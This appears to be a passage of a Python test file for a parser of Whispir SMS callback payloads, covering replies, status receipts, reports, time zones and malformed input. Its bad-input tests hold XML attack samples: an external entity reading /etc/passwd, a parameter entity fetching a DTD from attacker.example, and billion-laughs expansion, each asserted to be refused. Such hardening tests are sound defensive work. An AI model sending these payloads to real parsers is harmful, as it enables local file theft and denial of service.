        ({"mobile": "", "email": "a@example.com", "voice": "61761881564"}, "a@example.com"),
        ({"voice": "61761881564"}, "61761881564"),
        ({}, None),
    ],
)
def test_whispir_status_destination_is_the_recipient_mobile_first(
    sender: dict[str, str], destination: str | None
) -> None:
    event = parse(status_json("SENT", "RCVD", sender=sender))
    assert event.destination == destination
    assert event.source is None


# --------------------------------------------------------------------------------------
# Report completion
# --------------------------------------------------------------------------------------


def test_whispir_report_completion_xml() -> None:
    event = parse(sample("report_completion.xml"))
    assert event.type is EventType.report
    assert event.provider_type == "reportcompletion"
    assert event.report_id == "D3C2B1A0F9E84D7C6B5A"
    assert event.output_location == (
        "https://reports.au.whispir.com/exports/D3C2B1A0F9E84D7C6B5A/message-summary.csv"
    )
    assert event.occurred_at == utc(2024, 2, 2, 3, 15)
    assert event.message_id is None
    assert event.sender is None


def test_whispir_report_completion_json() -> None:
    event = parse(sample("report_completion.json"))
    assert event.type is EventType.report
    assert event.provider_type == "reportcompletion"
    assert event.report_id == "91A8B7C6D5E4F3A2B1C0"
    assert event.output_location is not None
    assert event.output_location.endswith("/responses-2023.csv")
    assert event.provider_timestamp == "31/01/24 22:50"


# --------------------------------------------------------------------------------------
# Key casing and root wrappers
# --------------------------------------------------------------------------------------


def test_whispir_keys_match_case_insensitively_json() -> None:
    event = parse(sample("reply_sms_odd_case.json"))
    assert event.message_id == "AB12CD34EF56AB78CD90"
    assert event.location == "https://api.au.whispir.com/messages/AB12CD34EF56AB78CD90"
    assert event.text == "yes"
    assert event.medium == "sms"
    assert event.provider_timestamp == "13/12/24 17:45"
    assert event.sender is not None
    assert event.sender.email == "william.brown@example.com.au"
    assert event.custom == {"JobNumber": "JOB-7731"}


def test_whispir_keys_match_case_insensitively_xml() -> None:
    body = (
        f"<ns2:DeliveryResponse {NS2}>"
        "<MessageID>AB12CD34EF56AB78CD90</MessageID>"
        "<MESSAGELOCATION>https://api.au.whispir.com/messages/AB12CD34EF56AB78CD90"
        "</MESSAGELOCATION>"
        "<From><Mobile>61422333444</Mobile><EMAIL>w@example.com</EMAIL></From>"
        "<ResponseMessage><Channel>SMS</Channel><Acknowledged>13/12/24 17:45</Acknowledged>"
        "<Content>yes</Content></ResponseMessage>"
        "</ns2:DeliveryResponse>"
    ).encode()
    event = parse(body)
    assert event.provider_type == "deliveryresponse"
    assert event.message_id == "AB12CD34EF56AB78CD90"
    assert event.location == "https://api.au.whispir.com/messages/AB12CD34EF56AB78CD90"
    assert event.sender == Contact(mobile="61422333444", email="w@example.com")
    assert event.text == "yes"
    assert event.occurred_at == utc(2024, 12, 13, 17, 45)


def test_whispir_keys_match_case_insensitively_status_and_report() -> None:
    status = encode(
        {
            "MessageId": "7E8F9A0B1C2D43E4F5A6",
            "FROM": {"MOBILE": "61430984567"},
            "OLDSTATUS": {"STATUS": "PEND", "TimeStamp": "09/01/13 13:21"},
            "NewStatus": {"Status": "SENT", "TIMESTAMP": "09/01/13 13:22"},
        }
    )
    event = parse(status)
    assert (event.type, event.status, event.previous_status) == (
        EventType.receipt,
        "sent",
        "pending",
    )
    assert event.destination == "61430984567"
    assert event.occurred_at == utc(2013, 1, 9, 13, 22)
    report = encode(
        {
            "REPORTID": "91A8B7C6D5E4F3A2B1C0",
            "OutputLocation": "https://reports.au.whispir.com/x.csv",
            "TimeStamp": "31/01/24 22:50",
        }
    )
    event = parse(report)
    assert event.type is EventType.report
    assert event.report_id == "91A8B7C6D5E4F3A2B1C0"
    assert event.output_location == "https://reports.au.whispir.com/x.csv"
    assert event.occurred_at == utc(2024, 1, 31, 22, 50)


def test_whispir_json_wrapped_in_root_name() -> None:
    event = parse(sample("reply_sms_wrapped.json"))
    assert event.type is EventType.message
    assert event.provider_type == "deliveryresponse"
    assert event.message_id == "0F1E2D3C4B5A69788796"
    assert event.text == "On my way"


@pytest.mark.parametrize(
    ("root", "inner", "event_type", "provider_type"),
    [
        ("deliveryresponse", reply_json(), EventType.message, "deliveryresponse"),
        ("DeliveryResponse", reply_json(), EventType.message, "deliveryresponse"),
        (
            "statusCallback",
            json.loads(status_json("PEND", "SENT")),
            EventType.receipt,
            "statuscallback",
        ),
        (
            "reportCompletion",
            {"reportid": "D3C2B1A0F9E84D7C6B5A", "timestamp": "02/02/24 03:15"},
            EventType.report,
            "reportcompletion",
        ),
    ],
)
def test_whispir_json_wrapped_in_each_root_name(
    root: str, inner: dict[str, Any], event_type: EventType, provider_type: str
) -> None:
    event = parse(encode({root: inner}))
    assert event.type is event_type
    assert event.provider_type == provider_type
    assert event.occurred_at is not None


# --------------------------------------------------------------------------------------
# Timestamps and time zones
# --------------------------------------------------------------------------------------


def test_whispir_timestamps_are_day_first() -> None:
    body = reply_json()
    body["responseMessage"]["acknowledged"] = "03/04/24 10:15"
    event = parse(encode(body))
    assert event.occurred_at == utc(2024, 4, 3, 10, 15)  # 3 April, not 4 March
    assert event.provider_timestamp == "03/04/24 10:15"


def test_whispir_default_timezone_is_utc() -> None:
    event = WhispirProvider().parse(sample("reply_sms.json"))
    assert event.occurred_at == datetime(2013, 1, 9, 13, 22, tzinfo=UTC)
    assert event.occurred_at is not None
    assert event.occurred_at.utcoffset() == timedelta(0)


def test_whispir_timezone_melbourne_summer_is_plus_eleven() -> None:
    event = parse(sample("reply_sms.json"), timezone="Australia/Melbourne")
    assert event.occurred_at is not None
    assert event.occurred_at.tzinfo is not None
    assert event.occurred_at.utcoffset() == timedelta(hours=11)
    assert event.occurred_at.replace(tzinfo=None) == datetime(2013, 1, 9, 13, 22)
    assert event.occurred_at.astimezone(UTC) == utc(2013, 1, 9, 2, 22)
    assert event.provider_timestamp == "09/01/13 13:22"


def test_whispir_timezone_melbourne_winter_is_plus_ten() -> None:
    event = parse(sample("undeliverable.xml"), timezone="Australia/Melbourne")  # 1 July 2024
    assert event.occurred_at is not None
    assert event.occurred_at.utcoffset() == timedelta(hours=10)
    assert event.occurred_at.astimezone(UTC) == utc(2024, 7, 1, 1, 45)


def test_whispir_timezone_accepts_a_tzinfo() -> None:
    event = parse(sample("status_sent.xml"), timezone=MELBOURNE)
    assert event.occurred_at == datetime(2013, 1, 9, 13, 22, tzinfo=MELBOURNE)
    assert event.occurred_at is not None
    assert event.occurred_at.utcoffset() == timedelta(hours=11)


def test_whispir_timezone_applies_to_reports() -> None:
    event = parse(sample("report_completion.xml"), timezone="Australia/Melbourne")
    assert event.occurred_at is not None
    assert event.occurred_at.utcoffset() == timedelta(hours=11)
    assert event.occurred_at.astimezone(UTC) == utc(2024, 2, 1, 16, 15)


def test_whispir_one_provider_keeps_timezones_apart() -> None:
    utc_event = parse(sample("reply_sms.json"))
    mel_event = parse(sample("reply_sms.json"), timezone="Australia/Melbourne")
    again = parse(sample("reply_sms.json"))
    assert utc_event.occurred_at == again.occurred_at == utc(2013, 1, 9, 13, 22)
    assert mel_event.occurred_at == utc(2013, 1, 9, 2, 22)


def test_whispir_four_digit_year_and_seconds() -> None:
    body = reply_json()
    body["responseMessage"]["acknowledged"] = "09/01/2013 13:22:45"
    event = parse(encode(body))
    assert event.occurred_at == datetime(2013, 1, 9, 13, 22, 45, tzinfo=UTC)


@pytest.mark.parametrize("stamp", ["yesterday", "31/02/13 10:00", "09/01/13", "13:22 09/01/13"])
def test_whispir_unparseable_reply_timestamp_is_kept_raw(stamp: str) -> None:
    body = reply_json()
    body["responseMessage"]["acknowledged"] = stamp
    event = parse(encode(body))
    assert event.occurred_at is None
    assert event.provider_timestamp == stamp
    assert event.type is EventType.message
    assert event.text == "Yes, I accept."


def test_whispir_unparseable_status_and_report_timestamps_are_kept_raw() -> None:
    status = json.loads(status_json("PEND", "SENT"))
    status["newStatus"]["timestamp"] = "yesterday"
    event = parse(encode(status))
    assert (event.occurred_at, event.provider_timestamp, event.status) == (
        None,
        "yesterday",
        "sent",
    )
    xml = (
        f"<ns2:reportcompletion {NS2}><reportid>D3C2B1A0F9E84D7C6B5A</reportid>"
        "<timestamp>yesterday</timestamp></ns2:reportcompletion>"
    ).encode()
    event = parse(xml)
    assert (event.type, event.occurred_at, event.provider_timestamp) == (
        EventType.report,
        None,
        "yesterday",
    )


def test_whispir_missing_timestamp_is_none() -> None:
    body = reply_json()
    del body["responseMessage"]["acknowledged"]
    event = parse(encode(body))
    assert event.occurred_at is None
    assert event.provider_timestamp is None
    assert event.type is EventType.message


def test_whispir_one_instance_parses_many_distinct_timestamps() -> None:
    provider = WhispirProvider(timezone="Australia/Melbourne")
    start = datetime(2024, 1, 1, 0, 0, tzinfo=MELBOURNE)
    for minutes in range(0, 5000 * 7, 7):  # more distinct stamps than any small cache
        when = start + timedelta(minutes=minutes)
        body = reply_json()
        body["responseMessage"]["acknowledged"] = when.strftime("%d/%m/%y %H:%M")
        event = provider.parse(encode(body))
        assert event.occurred_at == when
        assert event.provider_timestamp == when.strftime("%d/%m/%y %H:%M")


def test_whispir_one_instance_is_safe_to_share_between_threads() -> None:
    provider = WhispirProvider()
    errors: list[str] = []

    def work(offset: int) -> None:
        for i in range(300):
            day = (offset + i) % 28 + 1
            stamp = f"{day:02d}/03/24 {i % 24:02d}:{(offset * 7 + i) % 60:02d}"
            body = status_json("SENT", "RCVD")
            body = body.replace(b"09/01/13 13:22", stamp.encode())
            event = provider.parse(body)
            want = datetime(2024, 3, day, i % 24, (offset * 7 + i) % 60, tzinfo=UTC)
            if event.occurred_at != want or event.status != "delivered":
                errors.append(f"{stamp}: {event.occurred_at} {event.status}")

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []


# --------------------------------------------------------------------------------------
# Text content
# --------------------------------------------------------------------------------------


def test_whispir_reply_text_keeps_unicode_and_escapes() -> None:
    body = reply_json()
    body["responseMessage"]["content"] = '👍 see you then, café at 10? "quoted"\nbye'
    event = parse(json.dumps(body, ensure_ascii=True).encode())
    assert event.text == '👍 see you then, café at 10? "quoted"\nbye'
    event = parse(json.dumps(body, ensure_ascii=False).encode("utf-8"))
    assert event.text == '👍 see you then, café at 10? "quoted"\nbye'


def test_whispir_reply_xml_cdata_content() -> None:
    body = (
        f"<ns2:deliveryresponse {NS2}><messageid>A4B7C0D3E6F94A2B8C5D</messageid>"
        "<responsemessage><channel>SMS</channel><acknowledged>09/01/13 13:22</acknowledged>"
        "<content><![CDATA[Yes & <maybe> later]]></content></responsemessage>"
        "</ns2:deliveryresponse>"
    ).encode()
    event = parse(body)
    assert event.text == "Yes & <maybe> later"
    assert event.message_id == "A4B7C0D3E6F94A2B8C5D"


def test_whispir_reply_xml_content_in_pieces_is_joined() -> None:
    # Text split by entities, a CDATA section and a comment reaches the parser in pieces;
    # the leaf's value is all of them in order, the whitespace around its children is not.
    body = (
        f"<ns2:deliveryresponse {NS2}>\n  <messageid> A4B7 </messageid>\n"
        "  <responsemessage>\n    <channel>SMS</channel>\n"
        "    <content>\n  Fish &amp; chips<![CDATA[ <b>at</b> ]]><!-- a note -->six&#33;\n"
        "    </content>\n  </responsemessage>\n</ns2:deliveryresponse>\n"
    ).encode()
    event = parse(body)
    assert event.text == "Fish & chips <b>at</b> six!"
    assert event.message_id == "A4B7"


def test_whispir_reply_xml_declared_latin1_encoding() -> None:
    body = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        f"<ns2:deliveryresponse {NS2}><messageid>A4B7C0D3E6F94A2B8C5D</messageid>"
        "<from><name>Zoë Lefèvre</name><mobile>61412345678</mobile></from>"
        "<responsemessage><channel>SMS</channel><content>Très bien, merci</content>"
        "</responsemessage></ns2:deliveryresponse>"
    ).encode("latin-1")
    event = parse(body)
    assert event.text == "Très bien, merci"
    assert event.sender == Contact(name="Zoë Lefèvre", mobile="61412345678")
    assert event.raw == body


# --------------------------------------------------------------------------------------
# Content types
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("reply_sms.json", "application/vnd.whispir.message-v1+json"),
        ("reply_sms.json", "application/json; charset=utf-8"),
        ("reply_sms.json", "Application/JSON"),
        ("reply_sms.json", "text/plain"),  # unknown: sniffed
        ("reply_sms.json", None),
        ("reply_sms_ns2.xml", "application/vnd.whispir.message-v1+xml"),
        ("reply_sms_ns2.xml", "text/xml; charset=UTF-8"),
        ("reply_sms_ns2.xml", "application/octet-stream"),  # unknown: sniffed
        ("reply_sms_ns2.xml", None),
    ],
)
def test_whispir_content_types(name: str, content_type: str | None) -> None:
    event = parse(sample(name), content_type=content_type)
    assert event.type is EventType.message
    assert event.message_id == EXPECTED[name]["message_id"]
    assert event.sender == EXPECTED[name]["sender"]


@pytest.mark.parametrize("content_type", [None, "application/x-www-form-urlencoded"])
def test_whispir_form_body_is_unsupported(content_type: str | None) -> None:
    body = b"messageid=3F1C7A9E0B2D4C68A5E1&mobile=61412345678&content=Yes"
    with pytest.raises(UnsupportedPayload) as info:
        parse(body, content_type=content_type)
    assert "\n" not in str(info.value)
    assert "3F1C7A9E0B2D4C68A5E1" not in str(info.value)


def test_whispir_plain_text_body_is_unsupported() -> None:
    with pytest.raises(UnsupportedPayload):
        parse(b"Yes, I accept.")


def test_whispir_empty_body_is_a_payload_error() -> None:
    for body in (b"", b"  \r\n"):
        with pytest.raises(PayloadError) as info:
            parse(body, content_type="application/json")
        assert not isinstance(info.value, UnsupportedPayload)


# --------------------------------------------------------------------------------------
# Bad input
# --------------------------------------------------------------------------------------

SECRET = "S3CR3T-0412345678-marker"


def assert_clean_error(error: BaseException, body: bytes) -> str:
    """The message is one line and quotes none of the body."""
    message = str(error)
    assert message
    assert "\n" not in message and "\r" not in message
    assert SECRET not in message
    assert body.decode("utf-8", "replace") not in message
    return message


@pytest.mark.parametrize(
    "body",
    [
        ('{"messageId": "' + SECRET + '", ').encode(),
        ('{"messageId": "' + SECRET + '" "from": {}}').encode(),
        ("{'messageId': '" + SECRET + "'}").encode(),
        ('{"messageId": "' + SECRET + '"}}').encode(),
    ],
    ids=["truncated", "missing-comma", "single-quotes", "trailing-brace"],
)
def test_whispir_invalid_json_is_a_clean_payload_error(body: bytes) -> None:
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert not isinstance(info.value, UnsupportedPayload)
    assert_clean_error(info.value, body)


def test_whispir_json_array_is_a_payload_error() -> None:
    body = encode([reply_json()])
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert not isinstance(info.value, UnsupportedPayload)
    message = assert_clean_error(info.value, body)
    assert "array" in message


@pytest.mark.parametrize("content_type", [None, "application/json"])
def test_whispir_json_scalar_is_a_payload_error(content_type: str | None) -> None:
    with pytest.raises(PayloadError):
        parse(b'"' + SECRET.encode() + b'"', content_type=content_type)


@pytest.mark.parametrize(
    "body",
    [
        b"{}",
        b'{"hello": "world"}',
        encode({"messageId": SECRET, "from": {"mobile": "61412345678"}}),
        encode({"callbackId": "Sample Callback 1", "to": "61412345678", "body": SECRET}),
        encode({"deliveryResponse": {}}),
    ],
    ids=["empty", "unrelated", "no-kind", "outbound-message", "empty-wrapper"],
)
def test_whispir_object_without_callback_fields_is_rejected(body: bytes) -> None:
    with pytest.raises(PayloadError) as info:
        parse(body)
    message = assert_clean_error(info.value, body)
    assert "not a Whispir callback" in message


@pytest.mark.parametrize(
    "body",
    [
        f"<ns2:message {NS2}><to>61412345678</to><body>{SECRET}</body></ns2:message>".encode(),
        f"<ns2:deliveryresponse {NS2}></ns2:deliveryresponse>".encode(),
        f"<ns2:deliveryresponse {NS2}>{SECRET}</ns2:deliveryresponse>".encode(),
    ],
    ids=["outbound-message", "empty-root", "text-root"],
)
def test_whispir_xml_without_callback_fields_is_rejected(body: bytes) -> None:
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert_clean_error(info.value, body)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("from", "61412345678"),
        ("from", 61412345678),
        ("from", ["61412345678"]),
        ("from", True),
    ],
)
def test_whispir_from_not_an_object_names_the_field(field: str, value: Any) -> None:
    body = encode(reply_json(**{field: value}))
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert not isinstance(info.value, UnsupportedPayload)
    message = assert_clean_error(info.value, body)
    assert "from" in message.lower()


def test_whispir_from_text_in_xml_names_the_field() -> None:
    body = (
        f"<ns2:deliveryresponse {NS2}><messageid>A1</messageid><from>61412345678</from>"
        "<responsemessage><channel>SMS</channel><content>Y</content></responsemessage>"
        "</ns2:deliveryresponse>"
    ).encode()
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert "from" in assert_clean_error(info.value, body).lower()


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (encode(reply_json(responseMessage="Yes, I accept.")), "responsemessage"),
        (encode(reply_json(responseMessage=["Yes"])), "responsemessage"),
        (encode({"messageId": "A1", "newStatus": "SENT"}), "newstatus"),
        (encode({"messageId": "A1", "newStatus": 3}), "newstatus"),
    ],
    ids=["reply-string", "reply-array", "status-string", "status-number"],
)
def test_whispir_section_not_an_object_names_the_field(body: bytes, field: str) -> None:
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert field in assert_clean_error(info.value, body).lower()


@pytest.mark.parametrize(
    "body",
    [
        b"<ns2:deliveryresponse><messageid>A1</messageid>",
        f"<ns2:deliveryresponse {NS2}><messageid>A1</messageid></ns2:deliveryresponseX>".encode(),
        f"<a {NS2}><b>{SECRET}</a>".encode(),
        b"<a>&foo;</a>",
        b"<>",
        b"<?xml version='1.0'?>",
        b"<a>\xff\xfe</a>",
    ],
    ids=[
        "unclosed",
        "mismatched",
        "bad-nesting",
        "undefined-entity",
        "empty-tag",
        "no-root",
        "bad-utf8",
    ],
)
def test_whispir_malformed_xml_is_a_clean_payload_error(body: bytes) -> None:
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert not isinstance(info.value, UnsupportedPayload)
    assert_clean_error(info.value, body)


def test_whispir_xml_with_doctype_is_refused() -> None:
    body = (
        '<?xml version="1.0"?>\n<!DOCTYPE deliveryresponse>\n'
        f"<ns2:deliveryresponse {NS2}><messageid>A1</messageid>"
        "<responsemessage><content>Y</content></responsemessage></ns2:deliveryresponse>"
    ).encode()
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert "DOCTYPE" in assert_clean_error(info.value, body)


def test_whispir_xml_internal_entity_is_refused() -> None:
    body = (
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY who "' + SECRET + '">]>\n'
        f"<ns2:deliveryresponse {NS2}><messageid>A1</messageid>"
        "<responsemessage><content>&who;</content></responsemessage></ns2:deliveryresponse>"
    ).encode()
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert_clean_error(info.value, body)


def test_whispir_xml_external_entity_is_refused() -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f"<ns2:deliveryresponse {NS2}><messageid>&xxe;</messageid>"
        "<from><name>&xxe;</name><mobile>61412345678</mobile></from>"
        "<responsemessage><channel>SMS</channel><acknowledged>09/01/13 13:22</acknowledged>"
        "<content>&xxe;</content></responsemessage></ns2:deliveryresponse>"
    ).encode()
    event: Event | None = None
    with pytest.raises(PayloadError) as info:
        event = parse(body)
    message = assert_clean_error(info.value, body)
    assert "root:" not in message
    assert "/etc/passwd" not in message
    assert event is None  # nothing was produced that could carry the file


def test_whispir_xml_external_parameter_entity_is_refused() -> None:
    body = (
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>\n'
        f"<ns2:deliveryresponse {NS2}><messageid>A1</messageid></ns2:deliveryresponse>"
    ).encode()
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert "attacker" not in assert_clean_error(info.value, body)


def test_whispir_xml_billion_laughs_is_refused_quickly() -> None:
    entities = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        refs = f"&lol{level - 1 if level > 1 else ''};" * 10
        entities.append(f'<!ENTITY lol{level} "{refs}">')
    body = (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(entities) + "\n]>\n"
        f"<ns2:deliveryresponse {NS2}><messageid>&lol9;</messageid>"
        "<responsemessage><content>&lol9;</content></responsemessage>"
        "</ns2:deliveryresponse>"
    ).encode()
    started = time.perf_counter()
    with pytest.raises(PayloadError) as info:
        parse(body)
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0  # a safety bound, not a speed benchmark
    assert "lollollol" not in assert_clean_error(info.value, body)


def test_whispir_xml_nested_ten_thousand_levels_never_crashes() -> None:
    depth = 10_000
    body = (
        f"<ns2:deliveryresponse {NS2}><messageid>A4B7C0D3E6F94A2B8C5D</messageid>"
        "<responsemessage><channel>SMS</channel><content>Y</content></responsemessage>"
        "<customParameters>" + "<n>" * depth + "deep" + "</n>" * depth + "</customParameters>"
        "</ns2:deliveryresponse>"
    ).encode()
    try:
        event = parse(body)
    except PayloadError as exc:
        assert_clean_error(exc, body)
    else:
        assert event.message_id == "A4B7C0D3E6F94A2B8C5D"
        assert event.text == "Y"
    # And a bare deep document, with no callback in it at all.
    bare = ("<a>" * depth + "</a>" * depth).encode()
    with pytest.raises(PayloadError):
        parse(bare)


def test_whispir_xml_with_100000_siblings_never_crashes() -> None:
    count = 100_000
    entries = "".join(f"<entry><key>k{i}</key><value>v{i}</value></entry>" for i in range(count))
    body = (
        f"<ns2:deliveryresponse {NS2}><messageid>A4B7C0D3E6F94A2B8C5D</messageid>"
        "<responsemessage><channel>SMS</channel><content>Y</content></responsemessage>"
        f"<customParameters>{entries}</customParameters></ns2:deliveryresponse>"
    ).encode()
    try:
        event = parse(body)
    except PayloadError as exc:
        assert_clean_error(exc, body)
    else:
        assert event.message_id == "A4B7C0D3E6F94A2B8C5D"
        assert len(event.custom) == count
        assert event.custom["k0"] == "v0"
        assert event.custom[f"k{count - 1}"] == f"v{count - 1}"
    # Siblings that are not a callback at all.
    bare = ("<root>" + "<a>1</a>" * count + "</root>").encode()
    with pytest.raises(PayloadError):
        parse(bare)


def test_whispir_xml_repeated_text_field_is_a_payload_error() -> None:
    body = (
        f"<ns2:deliveryresponse {NS2}><messageid>A1</messageid><messageid>A2</messageid>"
        "<responsemessage><content>Y</content></responsemessage></ns2:deliveryresponse>"
    ).encode()
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert "messageid" in assert_clean_error(info.value, body).lower()


@pytest.mark.parametrize("shape", ["arrays", "objects", "inside-custom-parameters"])
def test_whispir_json_nested_100000_levels_is_a_payload_error(shape: str) -> None:
    depth = 100_000
    if shape == "arrays":
        body = b"[" * depth + b"]" * depth
    elif shape == "objects":
        body = b'{"a":' * depth + b"1" + b"}" * depth
    else:
        body = (
            b'{"messageId":"A1","responseMessage":{"content":"Y"},"customParameters":'
            + b'{"a":' * depth
            + b"1"
            + b"}" * depth
            + b"}"
        )
    with pytest.raises(PayloadError) as info:
        parse(body)
    assert not isinstance(info.value, UnsupportedPayload)
    assert_clean_error(info.value, body)
